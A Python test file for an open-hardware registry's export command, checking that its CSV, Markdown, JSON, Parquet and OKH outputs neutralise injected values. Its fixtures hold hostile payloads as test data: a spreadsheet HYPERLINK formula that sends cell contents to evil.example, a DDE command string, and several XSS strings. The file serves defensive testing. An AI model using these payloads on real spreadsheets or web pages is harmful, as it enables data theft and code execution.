"""`ohr export`: CSV that spreadsheets open as text, JSON, Parquet, an injection-safe awesome list, OKH manifests."""

from __future__ import annotations

import csv
import io
import json
import re

import duckdb
import pytest
import yaml
from registry_factory import add_project, designs

from queries.export import md_text, md_url, render_awesome
from registry.db import writer

EVIL_NAME = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")'


@pytest.fixture
def reg(tmp_path):
    path = designs(tmp_path / "e.duckdb")
    with writer(path) as con:
        add_project(con, "evil.example/one", EVIL_NAME, "Ventilators", "+cmd|' /C calc'!A0", position=7)
        add_project(con, "evil.example/two", "<script>alert(1)</script>", "Masks <b>bold</b>",
                    "[click](javascript:alert(1)) ![x](http://t.example/p.png) *emph* | pipe\n# heading", position=8)
    return path


def test_csv_export_opens_as_text(reg, run_ohr, tmp_path):
    r = run_ohr("export", "--format", "csv", "--db", str(reg))
    assert r.code == 0, r.err
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(r.out))}
    assert rows["evil.example/one"]["name"] == "'" + EVIL_NAME  # a quote in front: the spreadsheet shows text
    assert rows["evil.example/one"]["description"].startswith("'+cmd")
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    out = tmp_path / "out" / "projects.csv"
    r = run_ohr("export", "--format", "csv", "--out", str(out), "--db", str(reg))
    assert r.code == 0 and "wrote 8 rows" in r.err
    assert out.read_text(encoding="utf-8") == run_ohr("export", "--db", str(reg)).out


def test_csv_marks_unsafe_and_filters_flags(reg, run_ohr):
    assert run_ohr("flag", "openvent", "--kind", "unsafe", "--note", "no relief valve", "--db", str(reg)).code == 0
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(run_ohr("export", "--db", str(reg)).out))}
    assert rows["github.com/a/openvent"]["unsafe"] == "True" and rows["github.com/a/openvent"]["flags"] == "unsafe"
    kept = {r["id"] for r in csv.DictReader(io.StringIO(run_ohr("export", "--no-flag", "unsafe",
                                                                  "--db", str(reg)).out))}
    assert "github.com/a/openvent" not in kept and len(kept) == 7


def test_json_export_of_a_query(reg, run_ohr):
    r = run_ohr("export", "--format", "json", "--query", "buildable", "--param", "min_maturity=prototype",
                "--db", str(reg))
    assert r.code == 0, r.err
    assert [p["id"] for p in json.loads(r.out)] == ["github.com/b/maskmaker", "github.com/a/openvent",
                                                    "github.com/d/protovent"]
    full = {p["id"]: p for p in json.loads(run_ohr("export", "-f", "json", "--db", str(reg)).out)}
    assert full["github.com/a/openvent"]["bom_cost"] == {"USD": 11.0}  # JSON stays JSON
    assert full["github.com/a/openvent"]["flags"] == []


def test_parquet_export(reg, run_ohr, tmp_path):
    out = tmp_path / "projects.parquet"
    r = run_ohr("export", "--format", "parquet", "--out", str(out), "--db", str(reg))
    assert r.code == 0, r.err
    con = duckdb.connect()
    try:
        assert con.execute(f"SELECT count(*) FROM '{out}'").fetchone()[0] == 8
        cols = {c[0] for c in con.execute(f"DESCRIBE SELECT * FROM '{out}'").fetchall()}
        assert {"id", "hardware_licence", "flags", "unsafe", "corrected", "bom_lines"} <= cols
    finally:
        con.close()
    q = tmp_path / "inactive.parquet"
    r = run_ohr("export", "-f", "parquet", "-q", "inactive", "-p", "as_of=2022-01-01", "-o", str(q), "--db", str(reg))
    assert r.code == 0 and "wrote 2 rows" in r.err
    r = run_ohr("export", "--format", "parquet", "--db", str(reg))
    assert r.code == 3 and "give --out" in r.err


def test_markdown_awesome_list_is_grouped_and_injection_safe(reg, run_ohr):
    assert run_ohr("flag", "openvent", "--kind", "unsafe", "--note", "<img src=x onerror=alert(1)>",
                   "--db", str(reg)).code == 0
    r = run_ohr("export", "--format", "markdown", "--title", "Vent *list*", "--db", str(reg))
    assert r.code == 0, r.err
    md = r.out
    assert md.startswith("# Vent \\*list\\*\n")
    headings = [ln for ln in md.splitlines() if ln.startswith("## ")]
    assert headings == ["## Contents", "## Ventilators", "## Masks", "## Other designs",
                        "## Masks &lt;b&gt;bold&lt;/b&gt;"]
    assert "- [Ventilators](#ventilators)" in md and "- [Masks &lt;b&gt;bold&lt;/b&gt;](#masks-bboldb)" in md
    # list order within a category, badges, and the unsafe mark
    vent = md.split("## Ventilators")[1].split("## Masks")[0]
    assert vent.index("OpenVent") < vent.index("ProtoVent")
    assert ("- [OpenVent](https://github.com/a/openvent) - An open source ventilator. *(CERN-OHL-S-2.0 · tested · "
            "BOM 3 lines · ★ 100)* **⚠ Flagged unsafe by a curator: &lt;img src=x onerror=alert(1)&gt;**") in vent
    # nothing a reader's renderer would run or turn into a link, image, heading or table
    assert "<script" not in md and "<b>" not in md and "<img" not in md
    assert not re.search(r"(?<!\\)\]\(javascript:", md) and not re.search(r"(?<!\\)!\[", md)
    assert "\\[click\\](javascript:alert(1)) \\!\\[x\\](http://t.example/p.png) \\*emph\\* \\| pipe \\# heading" in md
    assert not any(ln.startswith("# heading") for ln in md.splitlines())


def test_markdown_of_a_query_lists_only_its_projects(reg, run_ohr, tmp_path):
    out = tmp_path / "BUILDABLE.md"
    r = run_ohr("export", "-f", "markdown", "-q", "buildable", "--title", "Buildable", "-o", str(out),
                "--db", str(reg))
    assert r.code == 0 and "wrote 2 projects" in r.err
    md = out.read_text(encoding="utf-8")
    assert "OpenVent" in md and "MaskMaker" in md and "ProtoVent" not in md
    assert "the curated query `buildable`" in md
    r = run_ohr("export", "-f", "markdown", "-q", "licence_mix", "--db", str(reg))
    assert r.code == 3 and "no id column" in r.err


def test_okh_manifests(reg, run_ohr, tmp_path):
    run_ohr("flag", "openvent", "--kind", "unsafe", "--note", "no relief valve", "--db", str(reg))
    run_ohr("set", "protovent", "documentation_licence", "CC-BY-4.0", "--note", "docs folder", "--db", str(reg))
    r = run_ohr("export", "--format", "okh", "--db", str(reg))
    assert r.code == 0, r.err
    docs = {d["documentation-home"]: d for d in yaml.safe_load_all(r.out)}
    assert len(docs) == 8
    vent = docs["https://github.com/a/openvent"]
    assert vent["title"] == "OpenVent" and vent["license"] == {"hardware": "CERN-OHL-S-2.0"}
    assert vent["development-stage"] == "tested"
    assert vent["health-safety-notice"] == "Flagged unsafe by a curator of the registry: no relief valve"
    assert vent["bom"] == "https://github.com/a/openvent/blob/main/bom.csv"
    assert docs["https://github.com/d/protovent"]["license"] == {"hardware": "MIT", "documentation": "CC-BY-4.0"}
    assert docs["https://evil.example/one"]["title"] == EVIL_NAME  # YAML quoting keeps it a plain string
    for d in docs.values():
        assert {"title", "description", "manifest-language"} <= set(d)
    folder = tmp_path / "okh"
    folder.mkdir()
    r = run_ohr("export", "-f", "okh", "-o", str(folder), "--db", str(reg))
    assert r.code == 0 and "wrote 8 manifests" in r.err
    names = sorted(p.name for p in folder.iterdir())
    assert "okh-github.com-a-openvent.yml" in names and len(names) == 8
    one = (folder / "okh-github.com-a-openvent.yml").read_text(encoding="utf-8")
    assert one.startswith("# Open Know-How manifest") and "# curator flags: unsafe" in one
    # a path without an extension is a new folder; FILE.yml is one multi-document YAML
    r = run_ohr("export", "-f", "okh", "-o", str(tmp_path / "new-folder"), "--db", str(reg))
    assert r.code == 0 and len(list((tmp_path / "new-folder").iterdir())) == 8
    r = run_ohr("export", "-f", "okh", "-q", "buildable", "-o", str(tmp_path / "okh.yml"), "--db", str(reg))
    assert r.code == 0 and "wrote 2 manifests" in r.err
    titles = [d["title"] for d in yaml.safe_load_all((tmp_path / "okh.yml").read_text(encoding="utf-8"))]
    assert titles == ["OpenVent", "MaskMaker"]


def test_md_helpers():
    assert md_text("a\r\n# b <i>c</i> & [d](e)") == "a \\# b &lt;i&gt;c&lt;/i&gt; &amp; \\[d\\](e)"
    assert md_url("javascript:alert(1)") is None and md_url("data:text/html,x") is None
    assert md_url("https://x.example/a (b)") == "https://x.example/a%20%28b%29"
    text = render_awesome([{"id": "x", "name": None, "category": None}], "T", "intro")
    assert "## Other" in text and "- x" in text


@pytest.mark.parametrize("value", ["http://[# List", "http://* [![badge](https://img.shields.io/x.svg)]", "https://[::1"])
def test_md_url_refuses_a_malformed_bracketed_host(value):
    from queries.export import md_url

    assert md_url(value) is None
